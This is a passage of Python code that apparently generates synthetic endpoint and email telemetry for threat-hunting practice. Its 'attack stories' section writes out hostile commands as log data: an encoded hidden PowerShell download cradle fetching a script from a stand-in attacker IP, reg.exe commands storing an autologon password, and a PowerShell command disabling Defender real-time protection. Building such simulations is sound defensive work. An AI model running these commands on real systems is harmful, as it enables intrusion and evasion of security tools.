                                      for j in range(8)]),
                            pa.array(fidx * 8 + rng.integers(0, 8, n))))
    f.put("SHA1", pc.take(pa.array([_hex(f"file{i}-{j}", 40) for i in range(len(FILES))
                                    for j in range(8)]),
                          pa.array(fidx * 8 + rng.integers(0, 8, n))))
    f.put("FileSize", rng.integers(1_000, 5_000_000, n))
    downloads = np.array([x[1] == "Downloads" for x in FILES])[fidx]
    browser = np.where(rng.random(n) < 0.5, P["msedge.exe"], P["chrome.exe"])
    office = np.array([P["WINWORD.EXE"], P["EXCEL.EXE"], P["explorer.exe"], P["notepad.exe"],
                       P["OneDrive.exe"]])[rng.integers(0, 5, n)]
    proc = np.where(downloads, browser, office)
    site = rng.integers(0, len(SITES), n)
    f.put("FileOriginUrl", pc.if_else(pa.array(downloads & (action == 1)), pc.binary_join_element_wise(
        "https://", _take([s[0] for s in SITES], site), "/download", ""), ""))
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    f.put("InitiatingProcessSessionId", 1 + device % 3)
    f.put("IsInitiatingProcessRemoteSession", False)
    return f.build()


def _registry(env: _Env, rng: np.random.Generator, per_day: int) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    device = rng.integers(0, env.n, n)
    ts = np.sort(_times(env, rng, n, office=False))
    k = rng.integers(0, len(REG_KEYS), n)
    f = _Frame("DeviceRegistryEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.put("ActionType", "RegistryValueSet")
    f.pick("RegistryKey", [r[0] for r in REG_KEYS], k)
    f.pick("RegistryValueName", [r[1] for r in REG_KEYS], k)
    f.pick("RegistryValueType", [r[2] for r in REG_KEYS], k)
    f.put("RegistryValueData", pa.array(rng.integers(0, 2**31, n)).cast(pa.string()))
    proc = np.array([P["explorer.exe"], P["svchost.exe"], P["OneDrive.exe"], P["svchost.exe"],
                     P["OneDrive.exe"], P["svchost.exe"]])[k]
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    return f.build()


def _images(env: _Env, rng: np.random.Generator, per_day: int) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    device = rng.integers(0, env.n, n)
    ts = np.sort(_times(env, rng, n, office=True))
    d = rng.integers(0, 5, n)  # the common ones (not amsi/clr/...)
    f = _Frame("DeviceImageLoadEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.put("ActionType", "ImageLoaded")
    f.pick("FileName", [x[0] for x in DLLS], d)
    f.pick("FolderPath", [x[1] + x[0] for x in DLLS], d)
    f.pick("SHA256", [_hex(x[0]) for x in DLLS], d)
    f.pick("SHA1", [_hex(x[0], 40) for x in DLLS], d)
    f.pick("MD5", [_hex(x[0], 32) for x in DLLS], d)
    f.put("FileSize", np.full(n, 1_234_567))
    names = list(NET_PROCS)
    proc = np.array([P[x] for x in names])[rng.integers(0, len(names), n)]
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    return f.build()


def _device_events(env: _Env, rng: np.random.Generator, per_day: int) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    device = rng.integers(0, env.n, n)
    ts = np.sort(_times(env, rng, n, office=False))
    kind = rng.choice(4, n, p=[0.45, 0.3, 0.2, 0.05])
    site = rng.integers(0, len(SITES), n)
    f = _Frame("DeviceEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.pick("ActionType", ["DnsQueryResponse", "PowerShellCommand", "AntivirusScanCompleted",
                          "ScheduledTaskUpdated"], kind)
    dns = pc.binary_join_element_wise('{"DnsQueryString":"', pc.take(
        pa.array([s[0] for s in SITES]), pa.array(site)), '","DnsQueryResult":[{"DnsQueryType":'
        '"A","IPAddress":"', _take([s[1] for s in SITES], site), '"}]}', "")
    ps = _dict(['{"Command":"Get-Process"}', '{"Command":"Get-ChildItem"}',
                           '{"Command":"Import-Module"}'], site % 3)
    scan = pa.array(['{"ScanTypeIndex":1,"ScanId":"{8E1C6AE1-4F4B-4F4A-9C1E-2B1B1C1D1E1F}"}'] * n)
    task = pa.array(['{"TaskName":"\\\\Microsoft\\\\Windows\\\\UpdateOrchestrator\\\\Schedule '
                     'Scan"}'] * n)
    kinds = pa.array(kind)
    af = pc.case_when(pc.make_struct(pc.equal(kinds, 0), pc.equal(kinds, 1), pc.equal(kinds, 2)),
                      dns, ps, scan, task)
    f.put("AdditionalFields", af)
    f.put("RemoteUrl", pc.if_else(pc.equal(kinds, 0), pc.take(pa.array([s[0] for s in SITES]),
                                                                 pa.array(site)), ""))
    proc = np.array([P["svchost.exe"], P["powershell.exe"], P["MpCmdRun.exe"],
                     P["svchost.exe"]])[kind]
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    return f.build()


def _snapshots(env: _Env, rng: np.random.Generator) -> dict[str, pa.Table]:
    days = max((env.end - env.start) // DAY_US, 1)
    per_day = 4
    n = env.n * days * per_day
    device = np.tile(np.arange(env.n), days * per_day)
    ts = env.start + np.repeat(np.arange(days * per_day), env.n) * (DAY_US // per_day) \
        + device * 7 * US
    f = _Frame("DeviceInfo", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.put("ClientVersion", "10.8760.22621.3958")
    f.put("PublicIP", env.public_ip)
    f.put("OSArchitecture", "64-bit")
    f.pick("OSPlatform", env.platform, device)
    f.pick("OSBuild", env.build, device)
    f.put("IsAzureADJoined", True)
    f.put("JoinType", "Hybrid Azure AD Join")
    f.pick("AadDeviceId", env.aad, device)
    f.pick("LoggedOnUsers", [json.dumps([{"UserName": env.users[i], "DomainName": DOMAIN.upper(),
                                          "Sid": env.sids[i]}]) for i in range(env.n)], device)
    f.pick("OSVersion", ["10.0"] * env.n, device)
    f.put("MachineGroup", "UnassignedGroup")
    f.put("ReportId", rng.integers(1, 2**40, n))
    f.put("OnboardingStatus", "Onboarded")
    f.pick("DeviceCategory", ["Endpoint"] * env.n, device)
    f.pick("DeviceType", ["Server" if s else "Workstation" for s in env.server], device)
    f.pick("Model", ["Virtual Machine" if s else "Latitude 7440" for s in env.server], device)
    f.pick("Vendor", ["Microsoft Corporation" if s else "Dell Inc." for s in env.server], device)
    f.put("SensorHealthState", "Active")
    f.put("ExposureLevel", "Low")
    f.pick("AssetValue", ["High" if s else "Normal" for s in env.server], device)
    f.put("IsInternetFacing", False)
    f.put("IsExcluded", False)
    f.put("IsTransient", False)
    info = f.build()
    g = _Frame("DeviceNetworkInfo", n)
    g.put("Timestamp", ts)
    g.pick("DeviceId", env.ids, device)
    g.pick("DeviceName", env.names, device)
    g.put("NetworkAdapterName", "Ethernet")
    g.pick("MacAddress", [f"00-15-5D-{i // 65536 % 256:02X}-{i // 256 % 256:02X}-{i % 256:02X}"
                          for i in range(env.n)], device)
    g.put("NetworkAdapterType", "Ethernet")
    g.put("NetworkAdapterStatus", "Up")
    g.put("ConnectedNetworks", json.dumps([{"Name": f"{DOMAIN}.local", "Category": "Domain",
                                            "IsConnectedToInternet": True}]))
    g.put("DnsAddresses", '["10.1.0.2","10.1.0.3"]')
    g.put("DefaultGateways", '["10.1.0.1"]')
    g.pick("IPAddresses", [json.dumps([{"IPAddress": ip, "SubnetPrefix": 16,
                                        "AddressType": "Private"}]) for ip in env.ip], device)
    g.put("IPv4Dhcp", "10.1.0.2")
    g.put("ReportId", rng.integers(1, 2**40, n))
    g.put("NetworkAdapterVendor", "Microsoft")
    g.put("OnboardingStatus", "Onboarded")
    g.put("NetworkAdapterDnsSuffix", f"{DOMAIN}.local")
    return {"DeviceInfo": info, "DeviceNetworkInfo": g.build()}


def _email(env: _Env, rng: np.random.Generator, per_day: int) -> dict[str, pa.Table]:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    user = rng.integers(0, env.n, n)
    ts = np.sort(_times(env, rng, n, office=True))
    sender = rng.integers(0, len(SENDERS), n)
    subject = rng.integers(0, len(SUBJECTS), n)
    ids = [str(uuid.UUID(int=int(x))) for x in rng.integers(0, 2**63, n)]
    has_url = rng.random(n) < 0.4
    has_att = rng.random(n) < 0.2
    e = _Frame("EmailEvents", n)
    e.put("Timestamp", ts)
    e.put("NetworkMessageId", ids)
    e.put("InternetMessageId", [f"<{i[:18]}@mail.example>" for i in ids])
    senders = pa.array(SENDERS)
    e.put("SenderMailFromAddress", pc.take(senders, pa.array(sender)))
    e.put("SenderFromAddress", pc.take(senders, pa.array(sender)))
    e.pick("SenderDisplayName", [s.split("@")[0].title() for s in SENDERS], sender)
    dom = [s.split("@")[1] for s in SENDERS]
    e.pick("SenderMailFromDomain", dom, sender)
    e.pick("SenderFromDomain", dom, sender)
    e.pick("SenderIPv4", [f"40.107.{i * 13 % 250}.{i * 7 % 250}" for i in range(len(SENDERS))],
           sender)
    e.pick("RecipientEmailAddress", env.upns, user)
    e.pick("RecipientObjectId", env.oids, user)
    e.pick("Subject", SUBJECTS, subject)
    internal = np.array([d == MAIL_DOMAIN for d in dom])[sender]
    e.put("EmailDirection", pc.if_else(pa.array(internal), "Intra-org", "Inbound"))
    e.put("DeliveryAction", "Delivered")
    e.put("DeliveryLocation", "Inbox/folder")
    e.put("LatestDeliveryAction", "Delivered")
    e.put("LatestDeliveryLocation", "Inbox/folder")
    e.put("AuthenticationDetails", '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}')
    e.put("AttachmentCount", has_att.astype(np.int32))
    e.put("UrlCount", has_url.astype(np.int32))
    e.put("EmailLanguage", "en")
    e.put("Connectors", "")
    e.put("ReportId", [f"{i}-{j}" for i, j in zip(ids, rng.integers(10**5, 10**6, n),
                                                   strict=True)])
    e.pick("RecipientDomain", [MAIL_DOMAIN], np.zeros(n, dtype=np.int64))
    e.put("EmailSize", rng.integers(5_000, 400_000, n))
    e.put("IsFirstContact", False)
    e.put("BulkComplaintLevel", np.where(sender == 0, 6, 0).astype(np.int32))
    emails = e.build()
    # URLs in the mails that have one
    ui = np.flatnonzero(has_url)
    u = _Frame("EmailUrlInfo", len(ui))
    u.put("Timestamp", ts[ui])
    u.put("NetworkMessageId", _dict(ids, ui))
    url_idx = sender[ui] % len(BENIGN_URLS)
    u.pick("Url", BENIGN_URLS, url_idx)
    u.pick("UrlDomain", [x.split("/")[2] for x in BENIGN_URLS], url_idx)
    u.put("UrlLocation", "Body")
    u.put("ReportId", pc.binary_join_element_wise(_take(ids, ui), "u", "-"))
    urls = u.build()
    # clicks on some of those URLs (through Safe Links; never a process launch)
    clicked = ui[rng.random(len(ui)) < 0.25]
    c = _Frame("UrlClickEvents", len(clicked))
    c.put("Timestamp", np.minimum(ts[clicked] + rng.integers(60, 7200, len(clicked)) * US,
                                  env.end - 1))
    c.pick("Url", BENIGN_URLS, sender[clicked] % len(BENIGN_URLS))
    c.put("ActionType", "ClickAllowed")
    c.pick("AccountUpn", env.upns, user[clicked])
    c.put("Workload", "Email")
    c.put("NetworkMessageId", _dict(ids, clicked))
    c.pick("IPAddress", [env.public_ip], np.zeros(len(clicked), dtype=np.int64))
    c.put("IsClickedThrough", False)
    c.put("UrlChain", pc.binary_join_element_wise("[\"", pc.take(pa.array(BENIGN_URLS),
                                                                pa.array(sender[clicked] %
                                                                         len(BENIGN_URLS))),
                                                  "\"]", ""))
    c.put("ReportId", pc.binary_join_element_wise(_take(ids, clicked), "c",
                                                  "-"))
    c.put("AppName", "Outlook")
    c.put("AppVersion", "16.0.17928.20114")
    clicks = c.build()
    ai = np.flatnonzero(has_att)
    a = _Frame("EmailAttachmentInfo", len(ai))
    a.put("Timestamp", ts[ai])
    a.put("NetworkMessageId", _dict(ids, ai))
    a.pick("SenderFromAddress", SENDERS, sender[ai])
    a.pick("SenderDisplayName", [s.split("@")[0].title() for s in SENDERS], sender[ai])
    a.pick("RecipientEmailAddress", env.upns, user[ai])
    a.pick("RecipientObjectId", env.oids, user[ai])
    fi = rng.integers(0, len(FILES), len(ai))
    a.pick("FileName", [x[0] for x in FILES], fi)
    a.pick("FileType", [x[0].rsplit(".", 1)[1] for x in FILES], fi)
    a.pick("FileExtension", ["." + x[0].rsplit(".", 1)[1] for x in FILES], fi)
    a.pick("SHA256", [_hex("att" + x[0]) for x in FILES], fi)
    a.put("FileSize", rng.integers(10_000, 2_000_000, len(ai)))
    a.put("ReportId", pc.binary_join_element_wise(_take(ids, ai), "a", "-"))
    atts = a.build()
    return {"EmailEvents": emails, "EmailUrlInfo": urls, "UrlClickEvents": clicks,
            "EmailAttachmentInfo": atts}


# ---------------------------------------------------------------- the stories

def _stories(env: _Env) -> dict[str, list[dict[str, Any]]]:
    """The attack stories as records (Python values in the schema's types)."""
    out: dict[str, list[dict[str, Any]]] = {}
    v = env.victim
    user, upn, sid = env.users[env.user_of[v]], env.upns[env.user_of[v]], env.sids[env.user_of[v]]
    dev = {"DeviceId": env.ids[v], "DeviceName": env.names[v]}
    end = datetime(1970, 1, 1) + timedelta(microseconds=int(env.end))
    report = [10**12]

    def rid() -> int:
        report[0] += 1
        return report[0]

    def at(hours: float) -> datetime:
        return end - timedelta(hours=hours)

    def add(table: str, **row: Any) -> dict[str, Any]:
        out.setdefault(table, []).append(row)
        return row

    def proc(name: str) -> dict[str, Any]:
        p = PROCS[P[name]]
        return {"FileName": p.name, "FolderPath": p.folder.replace("{user}", user) + p.name,
                "SHA256": _hex(p.folder + p.name), "SHA1": _hex("1" + p.folder + p.name, 40),
                "MD5": _hex("5" + p.folder + p.name, 32)}

    def ip(name: str, cmd: str, pid: int, created: datetime, parent: str, parent_pid: int
           ) -> dict[str, Any]:
        p = proc(name)
        return {"InitiatingProcessFileName": p["FileName"],
                "InitiatingProcessFolderPath": p["FolderPath"],
                "InitiatingProcessSHA256": p["SHA256"], "InitiatingProcessSHA1": p["SHA1"],
                "InitiatingProcessMD5": p["MD5"], "InitiatingProcessCommandLine": cmd,
                "InitiatingProcessId": pid, "InitiatingProcessCreationTime": created,
                "InitiatingProcessAccountName": user, "InitiatingProcessAccountDomain": DOMAIN,
                "InitiatingProcessAccountSid": sid, "InitiatingProcessAccountUpn": upn,
                "InitiatingProcessIntegrityLevel": "Medium",
                "InitiatingProcessParentFileName": parent, "InitiatingProcessParentId": parent_pid}

    def process(ts: datetime, name: str, cmd: str, pid: int, parent: dict[str, Any]
                ) -> dict[str, Any]:
        return add("DeviceProcessEvents", Timestamp=ts, **dev, ActionType="ProcessCreated",
                   **proc(name), ProcessCommandLine=cmd, ProcessId=pid, ProcessCreationTime=ts,
                   AccountName=user, AccountDomain=DOMAIN, AccountSid=sid, AccountUpn=upn,
                   ProcessIntegrityLevel="Medium",
                   ProcessTokenElevation="TokenElevationTypeLimited", **parent, ReportId=rid())

    explorer_pid = int(env.pid(np.array([v]), np.array([P["explorer.exe"]]))[0])
    boot = at(10)
    outlook_pid, outlook_cmd = 7412, "\"OUTLOOK.EXE\" "
    outlook = ip("OUTLOOK.EXE", outlook_cmd, outlook_pid, boot, "explorer.exe", explorer_pid)

    # 1. phishing: mail, URL, click, browser opened on it by Outlook, document downloaded
    mid = str(uuid.UUID(_hex(f"phish-{env.seed}", 32)))
    t_mail, t_click = at(6.5), at(6.2)
    add("EmailEvents", Timestamp=t_mail, NetworkMessageId=mid,
        InternetMessageId=f"<{mid[:18]}@contoso-invoices.com>", SenderMailFromAddress=PHISH_SENDER,
        SenderFromAddress=PHISH_SENDER, SenderDisplayName="Contoso Billing",
        SenderMailFromDomain="contoso-invoices.com", SenderFromDomain="contoso-invoices.com",
        SenderIPv4="45.77.65.200", RecipientEmailAddress=upn, Subject=PHISH_SUBJECT,
        EmailDirection="Inbound", DeliveryAction="Delivered", DeliveryLocation="Inbox/folder",
        LatestDeliveryAction="Delivered", LatestDeliveryLocation="Inbox/folder",
        AuthenticationDetails='{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"fail"}',
        AttachmentCount=0, UrlCount=1, EmailLanguage="en", ReportId=f"{mid}-1",
        RecipientDomain=MAIL_DOMAIN, EmailSize=48_213, IsFirstContact=True)
    add("EmailUrlInfo", Timestamp=t_mail, NetworkMessageId=mid, Url=PHISH_URL,
        UrlDomain="contoso-invoices.com", UrlLocation="Body", ReportId=f"{mid}-u")
    add("UrlClickEvents", Timestamp=t_click, Url=PHISH_URL, ActionType="ClickAllowed",
        AccountUpn=upn, Workload="Email", NetworkMessageId=mid, IPAddress=env.public_ip,
        IsClickedThrough=True, UrlChain=json.dumps([PHISH_URL]), ReportId=f"{mid}-c",
        AppName="Outlook", AppVersion="16.0.17928.20114")
    add("DeviceEvents", Timestamp=t_click, **dev, ActionType="BrowserLaunchedToOpenUrl",
        RemoteUrl=PHISH_URL, **outlook, ReportId=rid())
    edge_cmd = f"\"msedge.exe\" --single-argument {PHISH_URL}"
    process(t_click + timedelta(seconds=1), "msedge.exe", edge_cmd, 9120, outlook)
    edge = ip("msedge.exe", edge_cmd, 9120, t_click + timedelta(seconds=1), "OUTLOOK.EXE",
              outlook_pid)
    add("DeviceNetworkEvents", Timestamp=t_click + timedelta(seconds=2), **dev,
        ActionType="ConnectionSuccess", RemoteIP="45.77.65.200", RemotePort=443,
        RemoteUrl="contoso-invoices.com", LocalIP=env.ip[v], LocalPort=51734, Protocol="Tcp",
        LocalIPType="Private", RemoteIPType="Public", **edge, ReportId=rid())
    doc = f"C:\\Users\\{user}\\Downloads\\{PHISH_DOC}"
    add("DeviceFileEvents", Timestamp=t_click + timedelta(seconds=9), **dev,
        ActionType="FileCreated", FileName=PHISH_DOC, FolderPath=doc,
        SHA256=_hex("phish-doc"), SHA1=_hex("phish-doc", 40), MD5=_hex("phish-doc", 32),
        FileSize=88_231, FileOriginUrl=PHISH_URL + "/" + PHISH_DOC, FileOriginIP="45.77.65.200",
        **edge, ReportId=rid())

    # 2. the document's Word runs an encoded PowerShell download cradle
    t_word, t_ps = at(6.0), at(5.99)
    word_cmd = f"\"WINWORD.EXE\" /n \"{doc}\" /o \"\""
    process(t_word, "WINWORD.EXE", word_cmd, 10244, ip("explorer.exe", "C:\\Windows\\Explorer.EXE",
                                                       explorer_pid, boot, "userinit.exe", 812))
    word = ip("WINWORD.EXE", word_cmd, 10244, t_word, "explorer.exe", explorer_pid)
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    ps_cmd = f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}"
    process(t_ps, "powershell.exe", ps_cmd, 11876, word)
    ps = ip("powershell.exe", ps_cmd, 11876, t_ps, "WINWORD.EXE", 10244)
    for dll in ("amsi.dll", "clr.dll", "wininet.dll"):
        folder = next(d[1] for d in DLLS if d[0] == dll)
        add("DeviceImageLoadEvents", Timestamp=t_ps + timedelta(milliseconds=300), **dev,
            ActionType="ImageLoaded", FileName=dll, FolderPath=folder + dll, SHA256=_hex(dll),
            **ps, ReportId=rid())
    add("DeviceNetworkEvents", Timestamp=t_ps + timedelta(seconds=1), **dev,
        ActionType="ConnectionSuccess", RemoteIP=EVIL_IP, RemotePort=80,
        RemoteUrl=f"http://{EVIL_IP}/a.ps1", LocalIP=env.ip[v], LocalPort=51801, Protocol="Tcp",
        LocalIPType="Private", RemoteIPType="Public", **ps, ReportId=rid())

    # 3. credentials written to Winlogon\DefaultPassword by reg.exe from a cmd.exe
    t_reg = at(5.0)
    cmd_cmd = "cmd.exe /c reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\""
    process(t_reg, "cmd.exe", cmd_cmd, 12020, ps)
    cmd = ip("cmd.exe", cmd_cmd, 12020, t_reg, "powershell.exe", 11876)
    winlogon = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"
    for value, data in (("DefaultUserName", user), ("DefaultPassword", DEFAULT_PASSWORD),
                        ("AutoAdminLogon", "1")):
        reg_cmd = (f"reg.exe add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
                   f"Winlogon\" /v {value} /t REG_SZ /d \"{data}\" /f")
        process(t_reg + timedelta(seconds=1), "reg.exe", reg_cmd, 12100, cmd)
        add("DeviceRegistryEvents", Timestamp=t_reg + timedelta(seconds=1), **dev,
            ActionType="RegistryValueSet", RegistryKey=winlogon, RegistryValueType="String",
            RegistryValueName=value, RegistryValueData=data,
            **ip("reg.exe", reg_cmd, 12100, t_reg + timedelta(seconds=1), "cmd.exe", 12020),
            ReportId=rid())

    # 4. public-IP remote logons on the server: a password-guessing burst, then a success
    srv = env.target_server
    sdev = {"DeviceId": env.ids[srv], "DeviceName": env.names[srv]}
    t_brute = at(4.0)
    for i in range(12):
        add("DeviceLogonEvents", Timestamp=t_brute + timedelta(seconds=7 * i), **sdev,
            ActionType="LogonFailed", LogonType="Network", Protocol="NTLM",
            AccountName=["administrator", "admin", "backup"][i % 3], AccountDomain=DOMAIN,
            FailureReason="InvalidUserNameOrPassword", RemoteIP=BRUTE_IP,
            RemoteIPType="Public", RemotePort=50_000 + i, RemoteDeviceName="", ReportId=rid())
    add("DeviceLogonEvents", Timestamp=t_brute + timedelta(minutes=3), **sdev,
        ActionType="LogonSuccess", LogonType="RemoteInteractive", Protocol="Negotiate",
        AccountName="admin", AccountDomain=DOMAIN, RemoteIP=BRUTE_IP, RemoteIPType="Public",
        RemotePort=50_100, IsLocalAdmin=True, LogonId=998_877, ReportId=rid())

    # 5. Defender troubleshooting mode switched on
    t_ts = at(3.0)
    add("DeviceEvents", Timestamp=t_ts, **dev, ActionType="AntivirusTroubleshootModeEvent",
        AdditionalFields=json.dumps({
            "TroubleshootingState": "Enabled", "TroubleshootingPreviousState": "Disabled",
            "TroubleshootingStartTime": t_ts.isoformat() + "Z",
            "TroubleshootingStateExpiry": (t_ts + timedelta(hours=3)).isoformat() + "Z",
            "TroubleshootingStateRemainingMinutes": 180,
            "TroubleshootingStateChangeReason": "Troubleshooting mode turned on",
            "TroubleshootingStateChangeSource": "Portal"}, separators=(",", ":")),
        InitiatingProcessFileName="MsSense.exe",
        InitiatingProcessFolderPath=proc("MsSense.exe")["FolderPath"],
        InitiatingProcessAccountName="system", InitiatingProcessAccountDomain="nt authority",
        InitiatingProcessAccountSid=SYSTEM[2], ReportId=rid())

    # 6. an exclusion added and real-time protection turned off: blocked by tamper protection
    t_tp = at(2.5)
    tp_cmd = (f"powershell.exe -NoP -Command \"Add-MpPreference -ExclusionPath '{EXCLUSION}'; "
              f"Set-MpPreference -DisableRealtimeMonitoring $true\"")
    process(t_tp, "powershell.exe", tp_cmd, 13300, cmd)
    tp = ip("powershell.exe", tp_cmd, 13300, t_tp, "cmd.exe", 12020)
    base_key = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender"
    for target, original, attempted in (
            (f"{base_key}\\Exclusions\\Paths\\{EXCLUSION}", "", "0"),
            (f"{base_key}\\Real-Time Protection\\DisableRealtimeMonitoring", "0", "1")):
        add("DeviceEvents", Timestamp=t_tp + timedelta(seconds=1), **dev,
            ActionType="TamperingAttempt", RegistryKey=target.rsplit("\\", 1)[0],
            RegistryValueName=target.rsplit("\\", 1)[1],
            AdditionalFields=json.dumps({"TamperingAction": "RegistryModification",
                                         "Status": "Blocked", "Target": target,
                                         "OriginalValue": original,
                                         "TamperingAttemptedValue": attempted},
                                        separators=(",", ":")),
            **tp, ReportId=rid())

    # 7. the alerts
    def alert(key: str, hours: float, title: str, category: str, severity: str, source: str,
              detection: str, techniques: list[str], evidence: list[dict[str, Any]]) -> None:
        aid = "da" + _hex(f"alert-{key}-{env.seed}", 30)
        ts = at(hours)
        add("AlertInfo", Timestamp=ts, AlertId=aid, Title=title, Category=category,
            Severity=severity, ServiceSource=source, DetectionSource=detection,
            AttackTechniques=json.dumps(techniques))
        for ev in evidence:
            add("AlertEvidence", Timestamp=ts, AlertId=aid, Title=title, Categories=json.dumps(
                [category]), AttackTechniques=json.dumps(techniques), ServiceSource=source,
                DetectionSource=detection, Severity=severity, **ev)

    machine = {"EntityType": "Machine", "EvidenceRole": "Impacted", **dev,
               "LocalIP": env.ip[v]}
    account = {"EntityType": "User", "EvidenceRole": "Impacted", "AccountName": user,
               "AccountDomain": DOMAIN, "AccountSid": sid, "AccountUpn": upn}
    alert("phish", 6.1, "A potentially malicious URL click was detected", "InitialAccess", "High",
          "Microsoft Defender for Office 365", "Microsoft Defender for Office 365",
          ["Spearphishing Link (T1566.002)"],
          [account, {"EntityType": "Url", "EvidenceRole": "Related", "RemoteUrl": PHISH_URL},
           {"EntityType": "MailMessage", "EvidenceRole": "Related", "NetworkMessageId": mid,
            "EmailSubject": PHISH_SUBJECT}])
    alert("cradle", 5.9, "Suspicious PowerShell download cradle", "Execution", "High",
          "Microsoft Defender for Endpoint", "EDR",
          ["PowerShell (T1059.001)", "Obfuscated Files or Information (T1027)"],
          [machine, account, {"EntityType": "Process", "EvidenceRole": "Related",
                              "FileName": "powershell.exe", "ProcessCommandLine": ps_cmd, **dev},
           {"EntityType": "Ip", "EvidenceRole": "Related", "RemoteIP": EVIL_IP}])
    alert("winlogon", 4.9, "Credentials stored in the registry for automatic logon",
          "CredentialAccess", "Medium", "Microsoft Defender for Endpoint", "EDR",
          ["Credentials in Registry (T1552.002)"],
          [machine, {"EntityType": "RegistryValue", "EvidenceRole": "Related",
                     "RegistryKey": winlogon, "RegistryValueName": "DefaultPassword", **dev}])
    alert("brute", 3.9, "Multiple failed logons followed by a success from a public IP",
          "CredentialAccess", "Medium", "Microsoft Defender for Endpoint", "EDR",
          ["Brute Force (T1110)"],
          [{"EntityType": "Machine", "EvidenceRole": "Impacted", **sdev},
           {"EntityType": "Ip", "EvidenceRole": "Related", "RemoteIP": BRUTE_IP}])
    alert("tamper", 2.4, "Attempt to turn off Microsoft Defender Antivirus protection",
          "DefenseEvasion", "Medium", "Microsoft Defender for Endpoint", "Antivirus",
          ["Impair Defenses (T1562.001)"], [machine, account])
    return out


def generate(seed: int = 1, devices: int = 20, days: int = 7,
             end: datetime | None = None) -> dict[str, pa.Table]:
    """The environment as Arrow tables in the schema; the same arguments give the same rows.

    By default the data ends at the current hour, so that ``ago()`` hunts find it.
    """
    if devices < 1 or days < 1:
        raise ValueError("devices and days must be at least 1")
    end = end or datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    if end.tzinfo is not None:
        end = end.astimezone(UTC).replace(tzinfo=None)
    end_us = int((end - datetime(1970, 1, 1)) / timedelta(microseconds=1))
    start_us = end_us - days * DAY_US
    rng = np.random.default_rng(seed)
    env = _Env(rng, seed, devices, start_us, end_us)
    tables: dict[str, pa.Table] = {}
    tables.update(_snapshots(env, rng))
    tables["DeviceProcessEvents"], _ = _processes(env, rng, per_day=120)
    tables["DeviceNetworkEvents"] = _network(env, rng, per_day=150)
    tables["DeviceLogonEvents"] = _logons(env, rng)
    tables["DeviceFileEvents"] = _files(env, rng, per_day=40)
    tables["DeviceRegistryEvents"] = _registry(env, rng, per_day=30)
    tables["DeviceImageLoadEvents"] = _images(env, rng, per_day=40)
    tables["DeviceEvents"] = _device_events(env, rng, per_day=12)
    tables.update(_email(env, rng, per_day=12))
    for table, rows in _stories(env).items():
        cols = [(c.name, c.type) for c in catalog().table(table).columns]
        story = pa.table({c: pa.array([r.get(c, "" if t == "string" else None) for r in rows],
                                      ARROW_TYPES[t]) for c, t in cols})
        tables[table] = (pa.concat_tables([tables[table], story.cast(tables[table].schema)])
                         if table in tables else story)
    return dict(sorted(tables.items()))


def load(db: Any, seed: int = 1, devices: int = 20, days: int = 7,
         end: datetime | None = None) -> dict[str, int]:
    """Generate the environment and store it in ``db`` as one batch; returns rows per table.

    Loading the same environment (same arguments and ``end``) twice stores it once: the
    second time nothing is stored and the result is empty.
    """
    tables = generate(seed, devices, days, end)
    end_tag = (end or datetime.now(UTC)).strftime("%Y%m%d%H") if end is None else \
        end.strftime("%Y%m%dT%H%M%S")
    batch = f"demo-{seed}-{devices}-{days}-{end_tag}"
    from huntsman.store.ingest import event_key
    keys = {t: event_key(db.backend.tables()[t]) for t in tables}
    commit = db.backend.commit_batch(tables, batch, keys)
    return {} if commit.duplicate_batch else dict(commit.inserted)
